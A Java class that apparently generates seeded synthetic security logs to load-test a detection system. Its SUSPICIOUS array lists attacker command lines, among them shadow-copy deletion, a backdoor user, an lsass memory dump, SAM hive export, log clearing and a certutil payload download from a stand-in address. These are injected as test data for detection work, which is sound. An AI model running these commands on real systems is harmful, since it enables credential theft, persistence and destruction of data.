package org.marsad.load;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Lines of many log sources as a site has them, the same for the same seed: syslog of web servers
 * and sshd, Windows security and Sysmon as JSON, a proxy, CloudTrail. One in ten is a process
 * creation. One thread.
 */
final class MixedEvents {
  private static final long SEED = 42;
  private static final String[] IMAGES = {
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "C:\\Program Files\\Vendor\\Agent\\agent.exe",
    "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\explorer.exe",
    "C:\\Program Files (x86)\\Browser\\Application\\browser.exe",
    "C:\\Windows\\System32\\taskhostw.exe",
    "C:\\Windows\\System32\\conhost.exe"
  };
  private static final String[] COMMANDS = {
    " -k netsvcs -p -s Schedule",
    " -NoProfile -Command \"Get-Service | Where-Object Status -eq Running\"",
    " --type=renderer --field-trial-handle=1718 --lang=en-US --enable-features=NetworkService",
    " /c dir \"C:\\Users\\Public\\Documents\" /b",
    "",
    " --update --channel stable --session 7f3a",
    " -ServerName:App.AppX",
    " 0xffffffff -ForceV1"
  };

  /** Command lines that rules of SigmaHQ look for. */
  private static final String[] SUSPICIOUS = {
    "vssadmin.exe delete shadows /all /quiet",
    "whoami.exe /all",
    "net.exe user backdoor Passw0rd /add",
    "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
    "schtasks.exe /create /tn updater /tr C:\\Users\\Public\\u.exe /sc minute",
    "reg.exe save hklm\\sam C:\\Users\\Public\\sam.hive",
    "certutil.exe -urlcache -split -f http://192.0.2.7/a.exe C:\\Users\\Public\\a.exe",
    "wevtutil.exe cl Security",
    "bcdedit.exe /set {default} recoveryenabled No",
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full"
  };

  private static final int FEW = 500;

  private final Random random = new Random(SEED);
  private final Messages syslog = new Messages();
  private final int entities;

  /** With some hundred hosts and users, and nothing suspicious. */
  MixedEvents() {
    this(FEW);
  }

  /** With so many hosts, as many users and as many addresses. */
  MixedEvents(int entities) {
    this.entities = entities;
  }

  /** So many lines. */
  List<String> lines(int count) {
    var lines = new ArrayList<String>(count);
    for (int i = 0; i < count; i++) {
      lines.add(
          switch (random.nextInt(20)) {
            case 0, 1 -> processCreation();
            case 2, 3 -> logon();
            case 4, 5 -> connection();
            case 6 -> file();
            case 7 -> registry();
            case 8 -> image();
            case 9 -> dns();
            case 10 -> cloud();
            case 11 -> proxy();
            default -> new String(syslog.message(i), UTF_8);
          });
    }
    return lines;
  }

  /** So many process creations. */
  List<String> processCreations(int count) {
    var lines = new ArrayList<String>(count);
    for (int i = 0; i < count; i++) {
      lines.add(processCreation());
    }
    return lines;
  }

  /** Lines of which so many in a thousand are suspicious process creations. */
  List<String> lines(int count, int perThousand) {
    List<String> lines = lines(count);
    for (int i = 0; i < count; i++) {
      if (random.nextInt(1000) < perThousand) {
        lines.set(i, suspicious());
      }
    }
    return lines;
  }

  /** Half of them on the same few hosts. */
  private String suspicious() {
    String command = SUSPICIOUS[random.nextInt(SUSPICIOUS.length)];
    int host = random.nextBoolean() ? random.nextInt(20) : random.nextInt(entities);
    String program = command.substring(0, command.indexOf(' '));
    return sysmonOf(
        host,
        1,
        "Image",
        "C:\\Windows\\System32\\" + program,
        "CommandLine",
        command,
        "User",
        "EXAMPLE\\user" + host,
        "IntegrityLevel",
        "High",
        "Hashes",
        hashes(),
        "OriginalFileName",
        program,
        "ParentImage",
        "C:\\Windows\\System32\\cmd.exe",
        "ParentCommandLine",
        "cmd.exe /c run.bat");
  }

  private String address() {
    return entities <= FEW
        ? "192.0.2." + random.nextInt(254)
        : "2001:db8::%x:%x".formatted(1 + random.nextInt(1 + entities / 256), random.nextInt(256));
  }

  private String processCreation() {
    int one = random.nextInt(IMAGES.length);
    String parent = IMAGES[random.nextInt(IMAGES.length)];
    return sysmon(
        1,
        "Image",
        IMAGES[one],
        "CommandLine",
        "\"" + IMAGES[one] + "\"" + COMMANDS[one] + " " + random.nextInt(1_000_000),
        "CurrentDirectory",
        "C:\\Windows\\system32\\",
        "User",
        "EXAMPLE\\user" + random.nextInt(entities),
        "IntegrityLevel",
        "Medium",
        "Hashes",
        hashes(),
        "FileVersion",
        "10.0.19041." + random.nextInt(5000) + " (WinBuild.160101.0800)",
        "Description",
        "Host Process for Windows Services",
        "Product",
        "Microsoft Windows Operating System",
        "Company",
        "Microsoft Corporation",
        "OriginalFileName",
        IMAGES[one].substring(IMAGES[one].lastIndexOf('\\') + 1),
        "ParentImage",
        parent,
        "ParentCommandLine",
        parent + " -k " + random.nextInt(1000));
  }

  private String hashes() {
    return "SHA1=%016X%016X%08X,MD5=%016X%016X,SHA256=%016X%016X%016X%016X,IMPHASH=%016X%016X"
        .formatted(
            random.nextLong(),
            random.nextLong(),
            random.nextInt(),
            random.nextLong(),
            random.nextLong(),
            random.nextLong(),
            random.nextLong(),
            random.nextLong(),
            random.nextLong(),
            random.nextLong(),
            random.nextLong());
  }

  private String logon() {
    return json(
        "Security",
        4624,
        "TargetUserName",
        "user" + random.nextInt(entities),
        "TargetDomainName",
        "EXAMPLE",
        "LogonType",
        Integer.toString(random.nextInt(2) == 0 ? 3 : 10),
        "AuthenticationPackageName",
        "Kerberos",
        "WorkstationName",
        "ws-" + random.nextInt(entities),
        "IpAddress",
        address(),
        "IpPort",
        Integer.toString(random.nextInt(65_000)),
        "ProcessName",
        "-");
  }

  private String connection() {
    return sysmon(
        3,
        "Image",
        IMAGES[random.nextInt(IMAGES.length)],
        "User",
        "EXAMPLE\\user" + random.nextInt(entities),
        "Protocol",
        "tcp",
        "Initiated",
        "true",
        "SourceIp",
        address(),
        "SourcePort",
        Integer.toString(random.nextInt(65_000)),
        "DestinationIp",
        "198.51.100." + random.nextInt(254),
        "DestinationHostname",
        "host-" + random.nextInt(1000) + ".example.com",
        "DestinationPort",
        "443");
  }

  private String file() {
    return sysmon(
        11,
        "Image",
        IMAGES[random.nextInt(IMAGES.length)],
        "TargetFilename",
        "C:\\Users\\user"
            + random.nextInt(entities)
            + "\\AppData\\Local\\Temp\\"
            + random.nextInt()
            + ".tmp",
        "User",
        "EXAMPLE\\user" + random.nextInt(entities));
  }

  private String registry() {
    return sysmon(
        13,
        "EventType",
        "SetValue",
        "Image",
        IMAGES[random.nextInt(IMAGES.length)],
        "TargetObject",
        "HKLM\\SOFTWARE\\Vendor\\Agent\\State\\" + random.nextInt(100_000),
        "Details",
        "DWORD (0x%08x)".formatted(random.nextInt()));
  }

  private String image() {
    return sysmon(
        7,
        "Image",
        IMAGES[random.nextInt(IMAGES.length)],
        "ImageLoaded",
        "C:\\Windows\\System32\\module" + random.nextInt(500) + ".dll",
        "Hashes",
        hashes(),
        "Signed",
        "true",
        "Signature",
        "Microsoft Windows",
        "SignatureStatus",
        "Valid");
  }

  private String dns() {
    return sysmon(
        22,
        "QueryName",
        "host-" + random.nextInt(10_000) + ".example.com",
        "QueryStatus",
        "0",
        "QueryResults",
        "::ffff:198.51.100." + random.nextInt(254) + ";",
        "Image",
        IMAGES[random.nextInt(IMAGES.length)]);
  }

  private String cloud() {
    return """
    {"eventVersion":"1.08","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::123456789012:assumed-role/app/i-%x"},"eventTime":"%s","eventSource":"s3.amazonaws.com","eventName":"GetObject","awsRegion":"eu-central-1","sourceIPAddress":"192.0.2.%d","userAgent":"aws-sdk-java/2.20","requestParameters":{"bucketName":"logs","key":"a/%d"},"eventType":"AwsApiCall","readOnly":true}\
    """
        .formatted(random.nextInt(), Instant.now(), random.nextInt(254), random.nextInt());
  }

  private String proxy() {
    return """
    {"product":"","category":"proxy","service":"","c-uri":"https://www.example.com/a/%d?x=%x","c-useragent":"Mozilla/5.0 (Windows NT 10.0; Win64; x64)","cs-host":"www.example.com","cs-method":"GET","sc-status":"200"}\
    """
        .formatted(random.nextInt(100_000), random.nextLong());
  }

  private String sysmon(int id, String... fields) {
    return json("Microsoft-Windows-Sysmon/Operational", id, fields);
  }

  private String sysmonOf(int host, int id, String... fields) {
    return json("Microsoft-Windows-Sysmon/Operational", host, id, fields);
  }

  private String json(String channel, int id, String... fields) {
    return json(channel, random.nextInt(entities), id, fields);
  }

  private String json(String channel, int host, int id, String... fields) {
    var text = new StringBuilder(512);
    text.append("{\"Channel\":\"")
        .append(channel)
        .append("\",\"EventID\":")
        .append(id)
        .append(",\"Computer\":\"ws-")
        .append(host)
        .append(".example.com\",\"UtcTime\":\"2026-03-18 10:00:00.")
        .append(100 + random.nextInt(900))
        .append('"');
    for (int i = 0; i < fields.length; i += 2) {
      text.append(",\"")
          .append(fields[i])
          .append("\":\"")
          .append(fields[i + 1].replace("\\", "\\\\").replace("\"", "\\\""))
          .append('"');
    }
    return text.append('}').toString();
  }
}
